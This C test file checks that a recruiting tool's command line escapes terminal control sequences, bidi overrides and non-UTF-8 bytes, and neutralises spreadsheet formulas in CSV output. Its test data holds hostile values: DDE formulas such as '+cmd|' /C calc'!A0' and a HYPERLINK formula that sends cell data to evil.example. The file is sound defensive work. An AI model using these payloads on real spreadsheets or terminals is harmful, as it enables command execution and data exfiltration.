/* test-cli-escape.c: text from outside cannot drive the terminal or a spreadsheet
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Names, emails and template names come from CSV files and the service; error
 * messages from the service; file names from the person. Printed raw, an ESC
 * sequence among them changes the terminal's title or clears it, a carriage return
 * or backspaces rewrite what is shown, a bidi override shows text in another order.
 * The command line prints them as visible escapes, and CSV cells that a spreadsheet
 * would run as formulas as text.
 */

#include "config.h"

#include "inv-test-tmpdir.h"

#include <gio/gio.h>
#include <json-glib/json-glib.h>
#include <string.h>

#include "cli-test-http.h"
#include "cli-test-util.h"
#include "inv-database.h"

/* Each stored value, and how a CSV cell shows it. */
static const struct
{
  const char *stored;
  const char *printed;
} hostile_names[] = {
  { "\x1b]0;pwned\x07", "\\e]0;pwned\\x07" },                    /* sets the window title */
  { "\x1b[2J\x1b[HAll clear", "\\e[2J\\e[HAll clear" },           /* clears the screen */
  { "Alice\rMallory", "Alice\\rMallory" },                       /* overwrites the line */
  { "Bob\b\b\bEve", "Bob\\x08\\x08\\x08Eve" },
  { "Del\x7f", "Del\\x7f" },
  { "C1 \xc2\x9b" "31mred", "C1 \\u009b31mred" },                /* an 8-bit CSI */
  { "\xe2\x80\xae" "txt.exe", "\\u202etxt.exe" },                /* a right-to-left override */
  { "Line\xe2\x80\xa8" "break", "Line\\u2028break" },
  { "Zoë Çelik 山田", "Zoë Çelik 山田" },                         /* ordinary text is left alone */
};

/* Names a spreadsheet would run, and the cell a CSV reader gets. */
static const struct
{
  const char *stored;
  const char *cell;
} formulas[] = {
  { "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")" },
  { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
  { "@SUM(A1:A2)", "'@SUM(A1:A2)" },
  { "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0" },
  { "=1+1", "'=1+1" },
};

static char *
database_option (const char *path)
{
  return g_strconcat ("--database=", path, NULL);
}

/* What a terminal would act on: C0 controls other than a newline (and a carriage
 * return before one, CSV's line end), DEL, the C1 controls, the bidi controls and
 * the separators; and bytes that are not UTF-8. */
static void
assert_inert (const char *text,
              gboolean    crlf_allowed)
{
  g_assert_true (g_utf8_validate (text, -1, NULL));

  for (const char *p = text; *p != '\0'; p = g_utf8_next_char (p))
    {
      gunichar c = g_utf8_get_char (p);

      if (c == '\n' || (c == '\r' && crlf_allowed && p[1] == '\n'))
        continue;
      if (c < 0x20 || c == 0x7f || (c >= 0x80 && c <= 0x9f) || c == 0x202e || c == 0x2028)
        g_error ("U+%04X printed as it is at offset %ld of:\n%s", c, (long)(p - text), text);
    }
}

/* RFC 4180 cells of one CSV row (no line breaks inside cells). */
static GPtrArray *
csv_cells (const char *line)
{
  GPtrArray *cells = g_ptr_array_new_with_free_func (g_free);
  const char *p = line;

  for (;;)
    {
      GString *cell = g_string_new (NULL);

      if (*p == '"')
        {
          for (p++; *p != '\0'; p++)
            {
              if (*p == '"' && p[1] == '"')
                {
                  g_string_append_c (cell, '"');
                  p++;
                }
              else if (*p == '"')
                {
                  p++;
                  break;
                }
              else
                g_string_append_c (cell, *p);
            }
        }
      else
        for (; *p != '\0' && *p != ','; p++)
          g_string_append_c (cell, *p);

      g_ptr_array_add (cells, g_string_free (cell, FALSE));
      if (*p != ',')
        break;
      p++;
    }

  return cells;
}

/* A database with one invitation per hostile name, the template and the email
 * hostile too; the invitation ids follow the tables, formulas first. */
static char *
hostile_database (void)
{
  static guint n;
  g_autofree char *name = g_strdup_printf ("escape-list-%u.db", n++);
  g_autofree char *path = g_build_filename (g_get_tmp_dir (), name, NULL);
  g_autoptr(InvDatabase) database = inv_database_open (path, NULL);
  sqlite3 *db;
  sqlite3_stmt *stmt = NULL;
  guint id = 0;

  g_assert_nonnull (database);
  db = inv_database_get_handle (database);
  g_assert_true (inv_database_exec (database,
                                    "INSERT INTO templates (id, name) VALUES (1, '=cmd|'' /C calc''!A0');"
                                    "INSERT INTO templates (id, name) VALUES (2, char(27) || ']0;title' || char(7));"
                                    "INSERT INTO candidates (id, first_name, last_name, email, email_key, created_at)"
                                    "  VALUES (1, 'A', 'B', 'a@example.com', 'a@example.com', 0);",
                                    NULL));
  g_assert_cmpint (sqlite3_prepare_v2 (db,
                                       "INSERT INTO invitations (id, template_id, candidate_id, candidate_name,"
                                       "  email, status, sent_at, updated_at) VALUES (?1, ?2, 1, ?3, ?4, 'pending', ?5, 0)",
                                       -1, &stmt, NULL), ==, SQLITE_OK);

  for (guint i = 0; i < G_N_ELEMENTS (formulas) + G_N_ELEMENTS (hostile_names); i++)
    {
      gboolean formula = i < G_N_ELEMENTS (formulas);
      const char *candidate = formula ? formulas[i].stored : hostile_names[i - G_N_ELEMENTS (formulas)].stored;

      id = i + 1;
      sqlite3_bind_int64 (stmt, 1, id);
      sqlite3_bind_int64 (stmt, 2, formula ? 1 : 2);
      sqlite3_bind_text (stmt, 3, candidate, -1, SQLITE_STATIC);
      sqlite3_bind_text (stmt, 4, formula ? "=1+1@example.com" : "a\x1b[8m@example.com", -1, SQLITE_STATIC);
      /* Newest first: sent in id order, so the list comes out in reverse. */
      sqlite3_bind_int64 (stmt, 5, 1795338000 + id);
      g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_DONE);
      sqlite3_reset (stmt);
    }
  sqlite3_finalize (stmt);

  return g_steal_pointer (&path);
}

static void
test_list_csv (void)
{
  g_autofree char *path = hostile_database ();
  g_autofree char *option = database_option (path);
  g_autoptr(Run) run = run_app (option, "--list", "--format=csv", NULL);
  g_auto(GStrv) lines = NULL;
  guint n_rows = G_N_ELEMENTS (formulas) + G_N_ELEMENTS (hostile_names);

  g_assert_cmpint (run->exit_status, ==, 0);
  g_assert_cmpstr (run->err, ==, "");
  assert_inert (run->out, TRUE);

  lines = g_strsplit (run->out, "\r\n", -1);
  g_assert_cmpuint (g_strv_length (lines), ==, n_rows + 2);
  g_assert_cmpstr (lines[n_rows + 1], ==, "");

  for (guint row = 0; row < n_rows; row++)
    {
      g_autoptr(GPtrArray) cells = csv_cells (lines[row + 1]);
      guint i = n_rows - 1 - row;
      gboolean formula = i < G_N_ELEMENTS (formulas);

      g_test_message ("row %u: %s", row, lines[row + 1]);
      g_assert_cmpuint (cells->len, ==, 11);
      g_assert_cmpuint (g_ascii_strtoull (cells->pdata[0], NULL, 10), ==, i + 1);
      if (formula)
        {
          g_assert_cmpstr (cells->pdata[2], ==, "'=cmd|' /C calc'!A0");
          g_assert_cmpstr (cells->pdata[4], ==, formulas[i].cell);
          g_assert_cmpstr (cells->pdata[5], ==, "'=1+1@example.com");
        }
      else
        {
          g_assert_cmpstr (cells->pdata[2], ==, "\\e]0;title\\x07");
          g_assert_cmpstr (cells->pdata[4], ==, hostile_names[i - G_N_ELEMENTS (formulas)].printed);
          g_assert_cmpstr (cells->pdata[5], ==, "a\\e[8m@example.com");
        }
    }
}

/* JSON keeps every value, spelled with JSON's escapes: a reader gets the stored
 * text back, a terminal shows the escapes. */
static void
test_list_json (void)
{
  g_autofree char *path = hostile_database ();
  g_autofree char *option = database_option (path);
  g_autoptr(Run) run = run_app (option, "--list", "--format=json", NULL);
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;
  JsonArray *array;

  g_assert_cmpint (run->exit_status, ==, 0);
  assert_inert (run->out, FALSE);
  g_assert_nonnull (strstr (run->out, "\\u202etxt.exe"));
  g_assert_nonnull (strstr (run->out, "\\u001b]0;pwned\\u0007"));

  g_assert_true (json_parser_load_from_data (parser, run->out, -1, &error));
  g_assert_no_error (error);
  array = json_node_get_array (json_parser_get_root (parser));
  g_assert_cmpuint (json_array_get_length (array), ==, G_N_ELEMENTS (formulas) + G_N_ELEMENTS (hostile_names));

  for (guint n = 0; n < json_array_get_length (array); n++)
    {
      JsonObject *row = json_array_get_object_element (array, n);
      guint i = json_object_get_int_member (row, "id") - 1;
      const char *stored = i < G_N_ELEMENTS (formulas) ? formulas[i].stored
                                                       : hostile_names[i - G_N_ELEMENTS (formulas)].stored;

      g_assert_cmpstr (json_object_get_string_member (row, "candidate_name"), ==, stored);
    }
}

/* A long list is escaped in pieces: characters and line ends cut between two
 * pieces come out whole. */
static void
test_list_many (void)
{
  g_autofree char *path = g_build_filename (g_get_tmp_dir (), "escape-many.db", NULL);
  g_autofree char *option = database_option (path);
  g_auto(GStrv) lines = NULL;
  const guint n = 6000;

  {
    g_autoptr(InvDatabase) database = inv_database_open (path, NULL);

    g_assert_true (inv_database_exec (database,
                                      "INSERT INTO templates (id, name) VALUES (1, 'T');"
                                      "INSERT INTO candidates (id, first_name, last_name, email, email_key, created_at)"
                                      "  VALUES (1, 'A', 'B', 'a@example.com', 'a@example.com', 0);"
                                      "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 6000)"
                                      "INSERT INTO invitations (id, template_id, candidate_id, candidate_name, email,"
                                      "  status, sent_at, updated_at)"
                                      "  SELECT i, 1, 1, 'Zoë 山田 🎉' || char(27) || '[1m' || char(8238) || substr('ééééééé', 1, i % 7),"
                                      "         'a@example.com', 'pending', 1795338000 - i, 0 FROM n;",
                                      NULL));
  }

  {
    g_autoptr(Run) run = run_app (option, "--list", NULL);

    g_assert_cmpint (run->exit_status, ==, 0);
    assert_inert (run->out, TRUE);
    g_assert_cmpuint (strlen (run->out), >, 4 * 65536);
    lines = g_strsplit (run->out, "\r\n", -1);
  }

  g_assert_cmpuint (g_strv_length (lines), ==, n + 2);
  for (guint i = 1; i <= n; i++)
    {
      g_autoptr(GString) expected = g_string_new (NULL);

      g_string_printf (expected, "%u,,T,1,Zoë 山田 🎉\\e[1m\\u202e", i);
      for (guint e = 0; e < i % 7; e++)
        g_string_append (expected, "é");
      g_string_append (expected, ",a@example.com,pending,");
      if (!g_str_has_prefix (lines[i], expected->str))
        g_error ("line %u: %s, not %s", i, lines[i], expected->str);
    }
}

/* Bytes that are not UTF-8 (an older version, another program) come out as \xNN
 * in CSV, and as U+FFFD in JSON, which cannot hold them. */
static void
test_list_not_utf8 (void)
{
  g_autofree char *path = g_build_filename (g_get_tmp_dir (), "escape-bytes.db", NULL);
  g_autofree char *option = database_option (path);

  {
    g_autoptr(InvDatabase) database = inv_database_open (path, NULL);

    g_assert_true (inv_database_exec (database,
                                      "INSERT INTO templates (id, name) VALUES (1, 'T');"
                                      "INSERT INTO candidates (id, first_name, last_name, email, email_key, created_at)"
                                      "  VALUES (1, 'A', 'B', 'a@example.com', 'a@example.com', 0);"
                                      "INSERT INTO invitations (id, template_id, candidate_id, candidate_name, email,"
                                      "  status, sent_at, updated_at)"
                                      "  VALUES (1, 1, 1, CAST(X'4AFF4F9B' AS TEXT), 'a@example.com', 'pending', 1795338000, 0);",
                                      NULL));
  }

  {
    g_autoptr(Run) csv = run_app (option, "--list", NULL);

    g_assert_cmpint (csv->exit_status, ==, 0);
    assert_inert (csv->out, TRUE);
    g_assert_nonnull (strstr (csv->out, ",J\\xffO\\x9b,"));
  }
  {
    g_autoptr(Run) json = run_app (option, "--list", "--format=json", NULL);
    g_autoptr(JsonParser) parser = json_parser_new ();
    g_autoptr(GError) error = NULL;
    JsonObject *row;

    g_assert_cmpint (json->exit_status, ==, 0);
    assert_inert (json->out, FALSE);
    g_assert_true (json_parser_load_from_data (parser, json->out, -1, &error));
    g_assert_no_error (error);
    row = json_array_get_object_element (json_node_get_array (json_parser_get_root (parser)), 0);
    g_assert_cmpstr (json_object_get_string_member (row, "candidate_name"), ==, "J\xef\xbf\xbdO\xef\xbf\xbd");
  }
}

/* The import's report quotes the file: each Line N message is escaped. */
static void
test_import_report (void)
{
  g_autofree char *path = g_build_filename (g_get_tmp_dir (), "escape-import.db", NULL);
  g_autofree char *option = database_option (path);
  g_autofree char *csv = g_build_filename (g_get_tmp_dir (), "escape-import.csv", NULL);
  g_autofree char *import = g_strconcat ("--import-csv=", csv, NULL);
  g_autoptr(Run) run = NULL;

  {
    g_autoptr(InvDatabase) database = inv_database_open (path, NULL);

    g_assert_true (inv_database_exec (database,
                                      "INSERT INTO templates (id, remote_id, name, active, validity_days)"
                                      "  VALUES (1, 1001, 'Backend Engineer - Screening', 1, 7)",
                                      NULL));
  }
  g_assert_true (g_file_set_contents (csv,
                                      "Email,First Name,Last Name\n"
                                      "\x1b]0;pwned\x07@example.org,Jo,Example\n"
                                      "ok@example.org,Ann,Other\n"
                                      "\xe2\x80\xae" "gro.elpmaxe@evil,Eve,Evil\n"
                                      "\x1b[2J\x1b[H,Mal,Lory\n",
                                      -1, NULL));

  run = run_app (option, import, "--template=1", NULL);

  assert_inert (run->out, FALSE);
  assert_inert (run->err, FALSE);
  g_assert_nonnull (strstr (run->out, "Line 2: rejected (\\e]0;pwned\\x07@example.org): "));
  g_assert_nonnull (strstr (run->out, "Line 4: rejected (\\u202egro.elpmaxe@evil): "));
  g_assert_nonnull (strstr (run->out, "Line 5: rejected (\\e[2J\\e[H): "));
  g_assert_nonnull (strstr (run->out, "1 imported, 3 rejected, 0 skipped, 0 warnings\n"));
}

/* Error messages quote what was given: a file name, a template name. */
static void
test_error_messages (void)
{
  g_autofree char *dir = g_build_filename (g_get_tmp_dir (), "\x1b]0;dir\x07", NULL);
  g_autofree char *missing = g_build_filename (dir, "x.db", NULL);
  g_autofree char *missing_option = database_option (missing);
  g_autofree char *path = hostile_database ();
  g_autofree char *option = database_option (path);

  {
    g_autoptr(Run) run = run_app (missing_option, "--list", NULL);

    g_assert_cmpint (run->exit_status, ==, 1);
    assert_inert (run->err, FALSE);
    g_assert_nonnull (strstr (run->err, "/\\e]0;dir\\x07/x.db”"));
  }
  {
    g_autoptr(Run) run = run_app (option, "--list", "--template=\x1b[2J\xe2\x80\xae", NULL);

    g_assert_cmpint (run->exit_status, ==, 1);
    assert_inert (run->err, FALSE);
    g_assert_nonnull (strstr (run->err, "There is no interview template “\\e[2J\\u202e”"));
  }
  {
    g_autoptr(Run) run = run_app (option, "--cancel-matching", "--status=\x1b]2;x\x07", NULL);

    g_assert_cmpint (run->exit_status, ==, 1);
    assert_inert (run->err, FALSE);
    g_assert_nonnull (strstr (run->err, "Unknown status “\\e]2;x\\x07”"));
  }
}

/* The company name and the signature are printed back as stored: escaped, the
 * signature keeping its lines. */
static void
test_settings_echo (void)
{
  g_autofree char *path = hostile_database ();
  g_autofree char *option = database_option (path);
  g_autoptr(Run) run = run_app (option, "--set-company=Acme\x1b]0;owned\x07", "--set-signature=Ada\\nRecruiting\x1b[2J", NULL);

  g_assert_cmpint (run->exit_status, ==, 0);
  assert_inert (run->out, FALSE);
  g_assert_nonnull (strstr (run->out, "Company name: Acme\\e]0;owned\\x07\n"));
  g_assert_nonnull (strstr (run->out, "Signature:\nAda\nRecruiting\\e[2J\n"));
}

/* What a service says in an error answer reaches the person escaped, both when the
 * sync can be tried again and when the key was refused. */
static void
test_service_messages (void)
{
  static const char body[] = "{\"message\": \"\\u001b]0;pwned\\u0007 boom \\u001b[2J \\u202eevil \\u009b1m\"}";
  g_autofree char *path = g_build_filename (g_get_tmp_dir (), "escape-sync.db", NULL);
  g_autofree char *option = database_option (path);
  const char *environment[] = { "INVITATIONS_API_KEY=escape-test-key", NULL };
  static const guint statuses[] = { 500, 401 };

  {
    g_autoptr(InvDatabase) database = inv_database_open (path, NULL);
    g_assert_nonnull (database);
  }

  for (guint i = 0; i < G_N_ELEMENTS (statuses); i++)
    {
      g_autofree char *answer = g_strdup_printf ("HTTP/1.1 %u Oops\r\nContent-Type: application/json\r\n"
                                                 "Content-Length: %zu\r\nConnection: close\r\n\r\n%s",
                                                 statuses[i], strlen (body), body);
      g_autoptr(TinyServer) server = tiny_server_new (answer);
      g_autofree char *url = tiny_server_url (server);
      g_autofree char *url_option = g_strconcat ("--service-url=", url, NULL);
      g_autoptr(Run) run = run_app_with (NULL, environment, option, "--sync", url_option, NULL);

      g_assert_cmpint (run->exit_status, ==, statuses[i] == 401 ? 1 : 2);
      g_assert_cmpuint (tiny_server_n_requests (server), >, 0);
      assert_inert (run->out, FALSE);
      assert_inert (run->err, FALSE);
      g_assert_nonnull (strstr (run->err, "boom"));
    }
}

int
main (int   argc,
      char *argv[])
{
  char *tmpdir = inv_test_make_tmpdir ();
  int test_status;

  /* Not G_TEST_OPTION_ISOLATE_DIRS: the sync needs the system's settings schemas (the
   * proxy settings). Everything is written under the temporary directory, the
   * keyring too. */
  {
    g_autofree char *keyring = g_build_filename (tmpdir, "keyring", NULL);

    g_setenv ("SECRET_BACKEND", "file", TRUE);
    g_setenv ("SECRET_FILE_TEST_PATH", keyring, TRUE);
    g_setenv ("SECRET_FILE_TEST_PASSWORD", "test-keyring-password", TRUE);
  }
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/cli/escape/list-csv", test_list_csv);
  g_test_add_func ("/cli/escape/list-json", test_list_json);
  g_test_add_func ("/cli/escape/list-many", test_list_many);
  g_test_add_func ("/cli/escape/list-not-utf8", test_list_not_utf8);
  g_test_add_func ("/cli/escape/import-report", test_import_report);
  g_test_add_func ("/cli/escape/error-messages", test_error_messages);
  g_test_add_func ("/cli/escape/settings-echo", test_settings_echo);
  g_test_add_func ("/cli/escape/service-messages", test_service_messages);

  test_status = g_test_run ();
  inv_test_remove_tmpdir (tmpdir);

  return test_status;
}
